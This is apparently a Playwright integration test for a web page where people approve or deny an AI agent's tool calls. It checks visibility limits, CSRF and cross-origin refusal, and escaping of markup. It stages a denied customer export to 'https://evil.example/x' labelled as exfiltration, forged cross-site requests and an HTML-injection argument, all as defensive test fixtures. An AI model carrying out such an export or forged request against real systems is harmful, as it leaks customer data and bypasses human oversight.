import { existsSync, mkdirSync, statSync } from 'node:fs';
import path from 'node:path';
import type { Client, WorkflowHandle } from '@temporalio/client';
import type { FastifyInstance } from 'fastify';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ApproverAuthenticator } from '../../../src/approvals/auth/authenticate.ts';
import { decodeHistoryWithClient } from '../../../src/audit/decode-history.ts';
import { createApprovalsServer } from '../../../src/web/approvals-server.ts';
import { ApprovalVisibility } from '../../../src/web/need-to-know.ts';
import { TemporalApprovalsBackend } from '../../../src/web/temporal-backend.ts';
import { pendingApprovalsQuery } from '../../../src/workflows/guard/definitions.ts';
import type { ToolPlanInput, ToolPlanResult } from '../../../src/workflows/tool-plan.ts';
import { exampleProject } from '../../support/example.ts';
import { testClient, uniqueTaskQueue } from '../../support/temporal.ts';
import {
  type GuardWorkers,
  guardTestConfig,
  startGuardWorkers,
  startPlan,
  waitForPending,
} from '../guard/harness.ts';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const SCREENSHOT = path.resolve('test/artifacts/approvals-page.png');
// Production mode: tokens must be strong (≥ 128 bits), as minted ones are.
const BOB = 'bob-0f6c2e9a71d4b8305e9c1a7f3d6b2e84';
const MALLORY = 'mallory-8d2a5f1c9e7b3064a1d8c5f2e9b7a360';
const CAROL = 'carol-4e7b1d9a3c6f2085b9e4a1d7c3f6b2e9';
const TOKENS = `${BOB}=User:bob,${MALLORY}=User:mallory,${CAROL}=User:carol`;

async function signIn(page: Page, url: string, token: string): Promise<void> {
  await page.goto(url);
  await page.fill('input[name=token]', token);
  await page.click('button[type=submit]');
}

/** Visibility is eventually consistent: reload until the paused run is listed to someone who may see it. */
async function reloadUntilListed(page: Page, selector: string): Promise<void> {
  for (let i = 0; i < 50 && (await page.locator(selector).count()) === 0; i += 1) {
    await page.waitForTimeout(200);
    await page.reload();
  }
}

describe('approvals web page in headless Chromium, on a real run', () => {
  const taskQueue = uniqueTaskQueue('web-approvals');
  let client: Client;
  let workers: GuardWorkers;
  let server: FastifyInstance;
  let browser: Browser;
  let baseUrl: string;
  let handle: WorkflowHandle<(input: ToolPlanInput) => Promise<ToolPlanResult>>;

  beforeAll(async () => {
    if (!existsSync(CHROMIUM)) throw new Error(`${CHROMIUM} is missing: apt-get install -y chromium`);
    client = await testClient();
    workers = await startGuardWorkers(taskQueue);
    const config = guardTestConfig();
    server = await createApprovalsServer({
      authenticator: new ApproverAuthenticator('production', TOKENS),
      backend: new TemporalApprovalsBackend(client, config, {
        authorizer: workers.deps.authorizer,
        tools: workers.deps.tools,
      }),
      visibility: new ApprovalVisibility(workers.deps.authorizer, (await exampleProject()).tools),
    });
    baseUrl = await server.listen({ host: '127.0.0.1', port: 0 });
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: [
        '--headless',
        '--no-sandbox',
        '--disable-gpu',
        '--disable-quic',
        '--no-first-run',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
      ],
    });
    handle = await startPlan(client, taskQueue, {
      parallel: true,
      calls: [
        {
          tool: 'crm.issue_refund',
          arguments: { customerId: 'c-1001', amount: 180, currency: 'EUR', reason: '<b>double</b> charge' },
          callId: 'refund-web',
        },
        {
          tool: 'crm.export_customers',
          arguments: { destinationUrl: 'https://evil.example/x' },
          callId: 'exfil-web',
        },
      ],
    });
    await waitForPending(handle);
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
    await workers?.close();
    await client?.connection.close();
  });

  it('need-to-know: a user who may approve nothing sees no call, cannot open it by URL nor decide it', async () => {
    const refundCard = `section.pending[data-run="${handle.workflowId}"][data-call="refund-web"]`;
    // carol holds the global `security` role: she may approve every tool, so she sees the call.
    const carol = await browser.newPage();
    await signIn(carol, baseUrl, CAROL);
    await reloadUntilListed(carol, refundCard);
    await expect(carol.locator(refundCard).count()).resolves.toBe(1);
    await expect(carol.locator('#recent').first().textContent()).resolves.toContain('crm.export_customers');
    await carol.close();

    const page = await browser.newPage();
    await signIn(page, baseUrl, MALLORY);
    await expect(page.textContent('#who')).resolves.toBe('User:mallory');
    const body = (await page.textContent('main')) ?? '';
    expect(body).toContain('Pending approvals (0)');
    expect(body).toContain('Recent denials (0)');
    expect(body).not.toContain('crm.issue_refund');
    expect(body).not.toContain('c-1001');
    expect(body).not.toContain('crm.export_customers');

    const direct = await page.goto(
      `${baseUrl}/call?run=${encodeURIComponent(handle.workflowId)}&call=refund-web`,
    );
    expect(direct?.status()).toBe(404);
    const shown = (await page.textContent('main')) ?? '';
    expect(shown).toContain('No such call is waiting for your approval.');
    expect(shown).not.toContain('c-1001');
    // The same answer as for a call that does not exist: no oracle for which calls are waiting.
    const missing = await page.goto(`${baseUrl}/call?run=${encodeURIComponent(handle.workflowId)}&call=nope`);
    expect(missing?.status()).toBe(404);

    // A hand-made decision with mallory's own valid session and CSRF token is refused by the page.
    const csrf = await page.getAttribute('header input[name=csrf]', 'value');
    const decided = await page.request.post(`${baseUrl}/decide`, {
      form: { csrf: csrf ?? '', run: handle.workflowId, call: 'refund-web', decision: 'reject', reason: 'x' },
    });
    expect(decided.status()).toBe(200);
    expect(await decided.text()).toContain(
      `no call refund-web of ${handle.workflowId} is waiting for your approval`,
    );
    const pending = await handle.query(pendingApprovalsQuery);
    expect(pending.find((p) => p.callId === 'refund-web')?.approvals).toEqual([]);
    await page.close();
  });

  it('signs in with a token, shows the pending call and the denial, approves it, and the run completes', async () => {
    const page = await browser.newPage({ viewport: { width: 1200, height: 1100 } });
    await signIn(page, baseUrl, 'not-a-token');
    await expect(page.textContent('[role=alert]')).resolves.toContain('too weak for production mode');
    await page.fill('input[name=token]', `${BOB}0`);
    await page.click('button[type=submit]');
    await expect(page.textContent('[role=alert]')).resolves.toContain('unknown approver token');

    await page.fill('input[name=token]', BOB);
    await page.click('button[type=submit]');
    await expect(page.textContent('#who')).resolves.toBe('User:bob');
    const cookies = await page.context().cookies();
    expect(cookies.find((c) => c.name === 'warden_session')).toMatchObject({
      httpOnly: true,
      sameSite: 'Strict',
    });

    const selector = `section.pending[data-run="${handle.workflowId}"][data-call="refund-web"]`;
    const card = page.locator(selector);
    await reloadUntilListed(page, selector);
    await expect(card.count()).resolves.toBe(1);
    const text = (await card.textContent()) ?? '';
    expect(text).toContain('crm.issue_refund');
    expect(text).toContain('User:alice via Agent:support-bot');
    expect(text).toContain('"amount": 180');
    expect(text).toContain('0 of 1');
    // Arguments are data: the markup in them is shown as text, never rendered.
    expect(text).toContain('<b>double</b> charge');
    await expect(card.locator('b').count()).resolves.toBe(0);
    const denials = (await page.locator('#recent').first().textContent()) ?? '';
    expect(denials).toContain('crm.export_customers');
    expect(denials).toContain('denied');

    await card.locator('textarea[name=reason]').fill('verified the double charge on the invoice');
    mkdirSync(path.dirname(SCREENSHOT), { recursive: true });
    await page.screenshot({ path: SCREENSHOT, fullPage: true });
    await card.locator('button[value=approve]').click();
    await expect(page.textContent('[role=status]')).resolves.toMatch(
      /approved call refund-web of .*: the call is approved/,
    );

    const { outcomes } = await handle.result();
    expect(outcomes.find((o) => o.callId === 'refund-web')).toMatchObject({ status: 'executed' });
    expect(statSync(SCREENSHOT).size).toBeGreaterThan(10_000);

    // The approval in the history names the signed-in user; the page has no field for it.
    const history = await decodeHistoryWithClient(
      handle.client,
      await handle.fetchHistory(),
      handle.workflowId,
    );
    const accepted = history.events?.find((e) => e.workflowExecutionUpdateAcceptedEventAttributes);
    const payload =
      accepted?.workflowExecutionUpdateAcceptedEventAttributes?.acceptedRequest?.input?.args?.payloads?.[0];
    const submission = JSON.parse(Buffer.from(payload?.data ?? []).toString()) as Record<string, unknown>;
    expect(submission).toMatchObject({
      callId: 'refund-web',
      approver: 'bob',
      authentication: 'token',
      decision: 'approve',
    });
    await page.close();
  });

  it('refuses a POST without the CSRF token and a cross-site origin; nothing changes', async () => {
    const form = await fetch(baseUrl);
    const signInCookie = (form.headers.get('set-cookie') ?? '').split(';')[0] ?? '';
    const signInCsrf = /name="csrf" value="([^"]+)"/.exec(await form.text())?.[1] ?? '';
    const login = await fetch(`${baseUrl}/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', cookie: signInCookie },
      body: `csrf=${signInCsrf}&token=${MALLORY}`,
      redirect: 'manual',
    });
    expect(login.status).toBe(303);
    const cookie =
      (login.headers.getSetCookie().find((c) => c.startsWith('warden_session=')) ?? '').split(';')[0] ?? '';
    expect(cookie).toMatch(/^warden_session=.+/);
    const forged = await fetch(`${baseUrl}/decide`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', cookie },
      body: `run=${encodeURIComponent(handle.workflowId)}&call=refund-web&decision=reject&reason=x&csrf=wrong`,
      redirect: 'manual',
    });
    expect(forged.status).toBe(403);
    const crossSite = await fetch(`${baseUrl}/login`, {
      method: 'POST',
      headers: {
        'content-type': 'application/x-www-form-urlencoded',
        origin: 'https://evil.example',
        cookie: signInCookie,
      },
      body: `csrf=${signInCsrf}&token=${MALLORY}`,
      redirect: 'manual',
    });
    expect(crossSite.status).toBe(403);
    expect(crossSite.headers.getSetCookie().some((c) => c.includes('warden_session='))).toBe(false);
    // Login CSRF: a sign-in without the form's token is refused (no session is planted).
    const noToken = await fetch(`${baseUrl}/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: `token=${MALLORY}`,
      redirect: 'manual',
    });
    expect(noToken.status).toBe(403);
    expect(noToken.headers.getSetCookie().some((c) => c.includes('warden_session='))).toBe(false);
    const anonymous = await fetch(`${baseUrl}/decide`, { method: 'POST', redirect: 'manual' });
    expect(anonymous.status).toBe(401);
  });
});
